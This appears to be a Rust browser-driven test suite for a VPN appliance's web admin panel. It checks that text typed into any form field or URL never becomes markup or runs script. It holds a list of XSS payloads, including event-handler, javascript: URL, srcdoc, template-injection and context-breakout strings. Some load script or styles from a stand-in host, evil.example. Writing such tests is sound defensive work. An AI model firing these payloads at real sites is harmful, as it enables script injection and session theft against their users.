//! What somebody types is text: two hundred things that a careless page would run, in every field and every place.

use serde_json::{Value, json};

use crate::browser::{Browser, ORIGIN, first_password};
use crate::pages;
use crate::rig::appliance::Appliance;
use crate::rig::world::World;

/// What ends the place that a text stands in, so that the rest would be markup.
const PLACES: [&str; 10] =
    ["", "\">", "'>", "</title>", "</textarea>", "</script>", "--!>", "</pre></code>", "</option></select>", "`}/>]]>"];

/// What would run; each by another way.
const VECTORS: [&str; 20] = [
    "<script>window.__culvert_xss=1</script>",
    "<img src=x onerror=window.__culvert_xss=2>",
    "<svg onload=window.__culvert_xss=3>",
    "<svg><animate onbegin=window.__culvert_xss=4 attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.__culvert_xss=5</script>'></iframe>",
    "<details open ontoggle=window.__culvert_xss=6>",
    "<input autofocus onfocus=window.__culvert_xss=7>",
    "<a href=javascript:window.__culvert_xss=8>x</a>",
    "<video><source onerror=window.__culvert_xss=9></video>",
    "<object data=javascript:window.__culvert_xss=10></object>",
    "<form action=javascript:window.__culvert_xss=11><button>x</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__culvert_xss=12'>",
    "<script src=https://evil.example/x.js></script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(2)>",
    "\" autofocus onfocus=\"window.__culvert_xss=13\" x=\"",
    "' onmouseover='window.__culvert_xss=14' style='position:fixed;inset:0' '",
    "{{constructor.constructor('window.__culvert_xss=15')()}}${alert(3)}",
];

fn payloads() -> Vec<String> {
    PLACES.iter().flat_map(|place| VECTORS.iter().map(move |vector| format!("{place}{vector}"))).collect()
}

/// Every form that is sent, with the fields in which text may stand and what else it needs.
const FORMS: [(&str, &str, &str); 21] = [
    ("/panel/new-account", "name username password allowed_IPs public_key expires", "wg_name=Default_1"),
    ("/panel/accounts/laptop/edit", "username password allowed_IPs expires", ""),
    ("/panel/accounts/laptop/edit", "username", ""),
    ("/panel/accounts/laptop/edit", "password", ""),
    ("/panel/new-server", "name interface_name external_ip endpoint address dns_1 allowed_ips", ""),
    ("/panel/servers/office/edit", "endpoint", ""),
    ("/panel/servers/office/edit", "external_ip address dns_1 dns_2 allowed_ips listen_port", ""),
    ("/panel/servers/Default_1/forwards", "dst_port protocol to_peer to_port", ""),
    ("/panel/firewall/rules", "name s_ip d_ip s_port d_port", "end=top&action=DROP&chain=FORWARD&protocol=ANY"),
    ("/panel/dns", "forwarders_1 forwarders_2 max_cache_ttl", ""),
    ("/panel/traffic-log", "influxdb_bucket influxdb_organization influxdb_token", ""),
    ("/panel/traffic-log", "influxdb_url remote_syslog_server", ""),
    ("/panel/ikev2/server/generate", "server_common_name server_organization server_locality", "key_type=ecdsa256"),
    ("/panel/ikev2/advanced", "ike esp", ""),
    ("/panel/users", "name accounts traffic", "role=reseller&password="),
    ("/panel/access", "label", "ip=198.51.100.1&role=admin"),
    ("/panel/access", "label ip reseller expires", "role=admin"),
    ("/panel/webhooks", "name url events", ""),
    ("/panel/certificate/ask", "name email directory", ""),
    ("/panel/backup-settings", "ftp_server ftp_user ftp_path s3_endpoint s3_bucket", ""),
    ("/panel/login", "name next", "password=x"),
];

/// Pages that show what was stored, and those that show what an address asks for.
const SHOWN: [&str; 16] = [
    "/panel/accounts",
    "/panel/accounts/laptop",
    "/panel/accounts/laptop/edit",
    "/panel/servers/office",
    "/panel/servers/office/edit",
    "/panel/traffic-log",
    "/panel/ikev2",
    "/panel/firewall",
    "/panel/me",
    "/panel/users",
    "/panel/access",
    "/panel/webhooks",
    "/panel/links",
    "/panel/audit",
    "/panel/backup-settings",
    "/panel/certificate",
];

/// Sends every form with a payload, asks for every page, and returns what in the answers is markup that ought to be text.
/// The answers are read as a browser reads them, and nothing in them is run.
const SEND: &str = "const [payload, forms, shown, done] = arguments;
    const csrf = document.querySelector('input[name=csrf]').value;
    const bad = [];
    const read = (html, where) => {
        const page = new DOMParser().parseFromString(html, 'text/html');
        for (const element of page.querySelectorAll('*')) {
            const names = element.getAttributeNames();
            const links = ['href', 'action', 'src', 'data'].map((name) => element.getAttribute(name)).filter((link) => link !== null);
            const strange = links.some((link) => new URL(link, location.href).origin !== location.origin && !link.startsWith('data:image/png'));
            const is = (names.some((name) => name.startsWith('on') || name === 'srcdoc' || name === 'style')
                || (element.tagName === 'SCRIPT' && !(element.getAttribute('src') || '').startsWith('/panel/assets/'))
                || ['IFRAME', 'OBJECT', 'EMBED', 'BASE', 'VIDEO', 'STYLE'].includes(element.tagName)
                || strange
                || element.getAttribute('http-equiv') !== null);
            if (is) bad.push(where + ': ' + element.outerHTML.slice(0, 120));
        }
    };
    (async () => {
        let echoed = 0;
        for (const [path, names, more] of forms) {
            const body = new URLSearchParams(more);
            for (const name of names.split(' ')) body.set(name, payload);
            body.set('csrf', csrf);
            const answer = await fetch(path, {method: 'POST', body});
            const html = await answer.text();
            read(html, path);
            if (!answer.redirected && answer.status !== 403) echoed += 1;
        }
        const asked = encodeURIComponent(payload);
        for (const path of [...shown, '/panel/accounts?q=' + asked + '&server=' + asked + '&state=' + asked + '&sort=' + asked,
            '/panel/accounts/' + asked, '/panel/login?next=' + asked, '/panel/me?said=' + asked, '/panel/' + asked]) {
            read(await (await fetch(path)).text(), path);
        }
        done({bad, echoed});
    })().catch((error) => done({bad: [String(error)], echoed: 0}));";

/// Tells what ran, or would have run without the policy, on any page of this origin.
const WATCH: &str = "addEventListener('securitypolicyviolation', (event) => {
        if (event.effectiveDirective.startsWith('script')) localStorage.setItem('violated', event.blockedURI + event.sample);
    });
    let held;
    Object.defineProperty(window, '__culvert_xss', {
        get: () => held, set: (value) => { held = value; localStorage.setItem('ran', String(value)); },
    });
    for (const name of ['alert', 'confirm', 'prompt']) window[name] = () => localStorage.setItem('ran', name);";

/// What [`WATCH`] has seen so far.
fn seen(browser: &Browser) -> Value {
    browser.eval("return [localStorage.getItem('ran'), localStorage.getItem('violated')]", Vec::new())
}

#[test]
#[ignore = "needs root, /dev/net/tun, Debian's chromium and its driver: run tests/run"]
fn nothing_that_is_typed_into_any_field_becomes_markup() {
    let world = World::new();
    let mut appliance = Appliance::start(&world);
    pages::furnish(&appliance);
    let browser = Browser::enter(&world, &mut appliance);
    let forms: Vec<_> = FORMS.iter().map(|(path, names, more)| json!([path, names, more])).collect();
    let payloads = payloads();
    let (mut bad, mut echoed) = (Vec::new(), 0);
    for payload in &payloads {
        let told = browser.eval_later(SEND, vec![json!(payload), json!(forms), json!(SHOWN)]);
        bad.extend(told["bad"].as_array().unwrap().clone());
        echoed += told["echoed"].as_u64().unwrap();
    }

    assert_eq!(payloads.len(), 200);
    assert!(echoed > 200 * 8, "only {echoed} forms were shown again");
    assert!(bad.is_empty(), "{} places: {bad:#?}", bad.len());
}

#[test]
#[ignore = "needs root, /dev/net/tun, Debian's chromium and its driver: run tests/run"]
fn nothing_that_is_typed_runs() {
    let world = World::new();
    let mut appliance = Appliance::start(&world);
    pages::furnish(&appliance);
    let browser = Browser::open(&world);
    browser.before_each_page(WATCH);
    browser.log_in("admin", &first_password(&mut appliance));
    // several at once, each in a field of its own: what one opens, another cannot close
    let payloads = payloads();
    for some in payloads.chunks(20) {
        for (path, names, more) in FORMS.iter().filter(|(path, _, _)| *path != "/panel/login") {
            browser.go("/panel/me");
            let send = "const [action, names, more, payloads] = arguments;
                const form = document.createElement('form');
                form.method = 'post';
                form.action = action;
                const put = (name, value) => {
                    const field = document.createElement('input');
                    field.type = 'hidden';
                    [field.name, field.value] = [name, value];
                    form.append(field);
                };
                put('csrf', document.querySelector('input[name=csrf]').value);
                for (const [name, value] of new URLSearchParams(more)) put(name, value);
                names.split(' ').forEach((name, at) => put(name, payloads.filter((_, of) => of % names.split(' ').length === at).join(' ')));
                document.body.append(form);
                form.submit();";
            browser.mark();
            browser.eval(send, vec![json!(path), json!(names), json!(more), json!(some)]);
            browser.until("the answer", "!window.__marked && document.readyState === 'complete'");
            assert!(!browser.has_dialog(), "{path}: a dialog opened");
        }
        let all: String = some.concat();
        let all: String = url::form_urlencoded::byte_serialize(all.as_bytes()).collect();
        for path in ["/panel/accounts?q=", "/panel/login?next=", "/panel/me?said=", "/panel/accounts/"] {
            browser.visit(&format!("{ORIGIN}{path}{all}"));
        }
    }
    for page in pages::all(&browser) {
        browser.go(&page);
        assert!(!browser.has_dialog(), "{page}: a dialog opened");
    }

    assert_eq!(seen(&browser), json!([null, null]), "what ran, and what only the policy has stopped");
}

#[test]
#[ignore = "needs root, /dev/net/tun, Debian's chromium and its driver: run tests/run"]
fn the_watch_sees_what_runs_and_what_the_policy_stops() {
    let world = World::new();
    let mut appliance = Appliance::start(&world);
    let browser = Browser::open(&world);
    browser.before_each_page(WATCH);
    browser.log_in("admin", &first_password(&mut appliance));

    browser.eval("window.__culvert_xss = 7", Vec::new());
    let inline = "const line = document.createElement('script');
        line.textContent = 'window.__culvert_xss = 8';
        document.body.append(line);";
    browser.eval(inline, Vec::new());
    browser.until("a report of the policy", "localStorage.getItem('violated') !== null");

    assert_eq!(seen(&browser)[0], "7", "the policy let a script of the page itself run");
}
